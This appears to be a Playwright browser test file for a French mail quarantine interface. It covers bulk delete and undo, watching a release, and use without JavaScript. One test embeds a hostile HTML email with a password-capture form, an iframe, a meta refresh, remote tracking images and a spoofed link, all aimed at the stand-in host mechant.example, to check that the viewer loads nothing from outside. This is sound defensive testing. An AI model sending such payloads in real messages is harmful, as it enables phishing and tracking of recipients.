"""The quarantine in a browser: the list, a hostile message that calls nobody, decisions with and without a script."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, Request, expect
from pytest_django.live_server_helper import LiveServer

from accounts.models import Agent
from boxes.models import Role
from quarantine.models import Hold
from tests.browser.walking import follow, once, sign_in, sound
from tests.factories import make_moved_agent, make_shared_box
from tests.quarantine.holds import make_hold

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
HOSTILE = (
    b'From: "Service <rh@ac-reunion.fr>" <x@mechant.example>\r\nSubject: Bulletin\r\nMIME-Version: 1.0\r\n'
    b"Content-Type: text/html; charset=utf-8\r\n\r\n<body background=http://mechant.example/b onload=fetch('/x')>"
    b"<link rel=stylesheet href=http://mechant.example/s><meta http-equiv=refresh content='0;url=http://mechant.example/'>"
    b"<img src=http://mechant.example/i srcset='http://mechant.example/j 2x'>"
    b"<video autoplay src=//mechant.example/v></video>"
    b"<iframe src=http://mechant.example/f></iframe><form action=http://mechant.example/><input name=motdepasse></form>"
    b"<p style='background:url(http://mechant.example/u)'>Votre "
    b"<a href=http://mechant.example/>https://ac-reunion.fr/</a></p>"
)


@pytest.fixture
def me() -> Agent:
    return make_moved_agent("camille@ac-reunion.fr", given_name="Camille", family_name="Hoarau")


@once
def test_several_are_deleted_and_come_back(page: Page, live_server: LiveServer, me: Agent) -> None:
    box = make_shared_box((me, Role.MEMBER), name="Direction" * 9, address="direction@ac-reunion.fr")
    for reason in Hold.Reason.values:
        make_hold(me.address, reason=reason, subject="Objet" * 40, from_name="Nom" * 30, attachments=["a.pdf"])
    make_hold(box.address)
    sign_in(page, live_server, me)
    page.goto(f"{live_server.url}/quarantaine/")
    sound(page)
    page.get_by_role("button", name="Tout cocher").click()
    expect(page.get_by_text("6 messages cochés.")).to_be_visible()
    follow(page.get_by_role("button", name="Supprimer"))
    sound(page)
    follow(page.get_by_role("button", name="Supprimer"))
    expect(page.get_by_text("Aucun message n’est retenu.")).to_be_visible()
    sound(page)
    follow(page.get_by_role("button", name="Annuler la suppression"))
    expect(page.get_by_text("6 messages sont de nouveau retenus.")).to_be_visible()


@once
def test_a_hostile_message_calls_nobody(page: Page, live_server: LiveServer, me: Agent) -> None:
    hold = make_hold(me.address, raw=HOSTILE, subject="\u202e<img src=http://mechant.example/i>", reason="doubtful")
    calls: list[str] = []

    def listen(request: Request) -> None:
        calls.append(request.url)

    page.on("request", listen)
    sign_in(page, live_server, me)
    page.goto(f"{live_server.url}/quarantaine/{hold.pk}/?entetes=1")
    expect(page.get_by_text("mechant.example").first).to_be_visible()
    sound(page)
    assert calls
    assert [url for url in calls if not url.startswith(live_server.url)] == []
    assert page.locator("main").locator("input:not([type=hidden]), img, iframe, video, a[href*=mechant]").count() == 0


@once
def test_a_release_is_watched_until_it_is_over(page: Page, live_server: LiveServer, me: Agent) -> None:
    hold = make_hold(me.address, reason="dangerous", state="held")
    sign_in(page, live_server, me)
    page.goto(f"{live_server.url}/quarantaine/{hold.pk}/")
    sound(page)
    for name in ("Bloquer l’expéditeur…", "Signaler à l’adresse d’alerte…", "Libérer…"):
        follow(page.get_by_role("link", name=name))
        sound(page)
        if name != "Libérer…":
            follow(page.get_by_role("link", name="Revenir au message"))
    Hold.objects.filter(pk=hold.pk).update(state=Hold.State.RELEASING)
    follow(page.get_by_role("link", name="Revenir au message"))
    expect(page.get_by_text("Remise en cours…")).to_be_visible()
    sound(page)
    Hold.objects.filter(pk=hold.pk).update(state=Hold.State.RELEASED)
    expect(page.get_by_text("Libéré le", exact=False)).to_be_visible()
    expect(page.get_by_text("Remise en cours…")).to_have_count(0)


def test_it_goes_without_javascript(plain_page: Page, live_server: LiveServer, me: Agent) -> None:
    hold = make_hold(me.address, sender="ada@exemple.fr", subject="Le premier")
    make_hold(me.address, subject="Le second")
    page = plain_page
    page.set_viewport_size({"width": 320, "height": 800})
    sign_in(page, live_server, me)
    page.goto(f"{live_server.url}/quarantaine/")
    page.get_by_label("Choisir le message de ada@exemple.fr, Le premier").check(force=True)
    page.get_by_role("button", name="Supprimer").click()
    expect(page.get_by_text("Le second")).to_have_count(0)
    page.get_by_role("button", name="Supprimer").click()
    expect(page.get_by_text("1 message supprimé.")).to_be_visible()
    page.get_by_role("button", name="Annuler la suppression").click()
    page.get_by_role("link", name="Le premier").click()
    page.get_by_role("link", name="Bloquer l’expéditeur…").click()
    page.get_by_text("Tout le domaine exemple.fr").click()
    page.get_by_role("button", name="Bloquer l’expéditeur").click()
    expect(page.get_by_text("exemple.fr ajouté à la liste de blocage.")).to_be_visible()
    hold.refresh_from_db()
    assert hold.state == Hold.State.DELETED
